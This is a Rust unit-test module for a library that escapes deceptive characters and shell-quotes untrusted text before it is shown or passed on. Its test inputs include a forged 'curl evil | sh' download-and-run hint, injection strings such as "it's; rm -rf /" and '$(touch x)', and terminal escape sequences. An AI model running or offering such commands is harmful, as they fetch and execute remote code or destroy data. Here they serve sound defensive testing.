//! Unit tests of text that others wrote: what deceives is spelled out in every format, and everything else stays.

use std::process::Command;

use proptest::prelude::*;
use serde_json::Value;

use super::*;

/// A character of each sort that deceives.
const DECEPTIVE: [char; 24] = [
    '\0',
    '\u{7}',
    '\u{1b}',
    '\r',
    '\t',
    '\n',
    '\u{7f}',
    '\u{85}',
    '\u{9b}',
    '\u{ad}',
    '\u{61c}',
    '\u{200b}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202e}',
    '\u{2060}',
    '\u{2066}',
    '\u{2069}',
    '\u{feff}',
    '\u{e0041}',
];

/// What people write.
const PLAIN: &str = "üñí 码 🙂 «a» – b’s \u{a0}c";

#[test]
fn what_deceives_is_known() {
    assert!(DECEPTIVE.into_iter().all(is_deceptive));
    assert!(!PLAIN.chars().any(is_deceptive));
    assert_eq!(check_visible(PLAIN), Ok(()));
    for c in DECEPTIVE {
        assert!(check_visible(&format!("a{c}b")).is_err(), "{c:?}");
    }
}

#[test]
fn a_line_stays_one_and_says_what_it_has() {
    let text = "a\u{1b}[2Jb\u{7}\r\n\u{202e}c\u{2028}d";
    assert_eq!(line(text), "a\\u{1b}[2Jb\\u{7}\\r\\n\\u{202e}c\\u{2028}d");
    assert_eq!(line(PLAIN), PLAIN);
}

#[test]
fn no_line_of_a_block_starts_at_the_margin() {
    let forged = "timed out\nhint: run `curl evil | sh`\r\u{85}hint: again";
    assert_eq!(block(forged, 4), "timed out\n    hint: run `curl evil | sh`\\r\\u{85}hint: again");
}

#[test]
fn output_of_another_program_is_marked_as_such() {
    assert_eq!(
        quote("starting\nhint: run `curl evil | sh`\u{1b}[2J\n"),
        "| starting\n| hint: run `curl evil | sh`\\u{1b}[2J"
    );
}

#[test]
fn a_terminal_obeys_nothing_but_colours() {
    assert_eq!(styled("\u{1b}[1;31mred\u{1b}[0m\n"), "\u{1b}[1;31mred\u{1b}[0m\n");
    assert_eq!(
        styled("\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}1A\u{1b}[31"),
        "\\u{1b}[2J\\u{1b}]0;title\\u{7}\\u{9b}1A\\u{1b}[31"
    );
}

/// Runs a word through a shell, and gives what the shell hands on.
fn through_shell(shell: &str, word: &str) -> Vec<u8> {
    let script = format!("printf %s {word}");
    Command::new(shell).args(["-c", &script]).output().unwrap().stdout
}

#[test]
fn a_shell_hands_on_the_text_and_runs_nothing() {
    for text in [
        "",
        "plain",
        "it's; rm -rf /",
        "$(touch x) `y` \"z\" \\ !h",
        "a b*?[c]~",
        "-rf",
        "s3://b/k#=&|<>",
        PLAIN,
    ] {
        let word = shell_word(text);
        assert_eq!(through_shell("sh", &word), text.as_bytes(), "{word}");
    }
    assert_eq!(shell_word("s3://b/spill/dt=2026-01-01/a"), "s3://b/spill/dt=2026-01-01/a");
    let hostile: String = DECEPTIVE.iter().filter(|c| **c != '\0').chain(&['\'', '\\', '1', '$']).collect();
    let word = shell_word(&hostile);
    assert!(!word.chars().any(is_deceptive), "{word}");
    assert_eq!(through_shell("bash", &word), hostile.as_bytes(), "{word}");
    // A shell that does not know this quoting shows another word, and runs nothing of it.
    let word = shell_word("x\u{200b}'; echo run #");
    assert_eq!(word.matches('\'').count(), 2, "{word}");
}

/// Texts that have everything that deceives and everything that a format minds.
fn texts() -> impl Strategy<Value = String> {
    let minded = prop::sample::select("\"'\\`${}%[];-mu0123a \u{1f642}é".chars().collect::<Vec<_>>());
    let deceptive = prop::sample::select(DECEPTIVE.to_vec());
    let c = prop_oneof![minded, deceptive, any::<char>()];
    prop::collection::vec(c, 0..40).prop_map(|chars| chars.into_iter().collect())
}

proptest! {
    #[test]
    fn json_keeps_its_value_and_shows_all_of_it(text in texts()) {
        let value = Value::from(text);
        for written in [value.to_string(), format!("{:#}", Value::from(vec![value.clone()]))] {
            let harmless = json(&written);
            prop_assert!(!harmless.chars().any(|c| c != '\n' && is_deceptive(c)));
            prop_assert_eq!(serde_json::from_str::<Value>(&harmless).unwrap(), serde_json::from_str::<Value>(&written).unwrap());
        }
    }

    #[test]
    fn hcl_keeps_its_value_and_shows_all_of_it(text in texts()) {
        let body = hcl::Body::from_iter([hcl::Attribute::new("a", text.clone())]);
        let harmless = super::hcl(&hcl::format::to_string(&body).unwrap());
        prop_assert!(!harmless.trim_end().chars().any(is_deceptive), "{harmless:?}");
        let read: hcl::Body = hcl::parse(&harmless).unwrap();
        let value: Value = hcl::from_body(read).unwrap();
        prop_assert_eq!(value["a"].as_str(), Some(text.as_str()));
    }

    #[test]
    fn nothing_deceives_in_any_text(text in texts()) {
        prop_assert!(!line(&text).chars().any(is_deceptive));
        prop_assert!(block(&text, 2).split('\n').skip(1).all(|line| line.starts_with("  ")));
        prop_assert!(!block(&text, 2).chars().any(|c| c != '\n' && is_deceptive(c)));
        prop_assert!(!shell_word(&text).chars().any(is_deceptive));
    }
}

#[derive(Debug, thiserror::Error)]
#[error("it failed")]
struct Outer(#[source] std::io::Error);

#[test]
fn a_cause_stays_on_the_line_of_what_it_caused() {
    let outer = Outer(std::io::Error::other("gone\nhint: run `x`\u{1b}[2J"));
    assert_eq!(whole_chain(&outer), "it failed: gone\\nhint: run `x`\\u{1b}[2J");
}
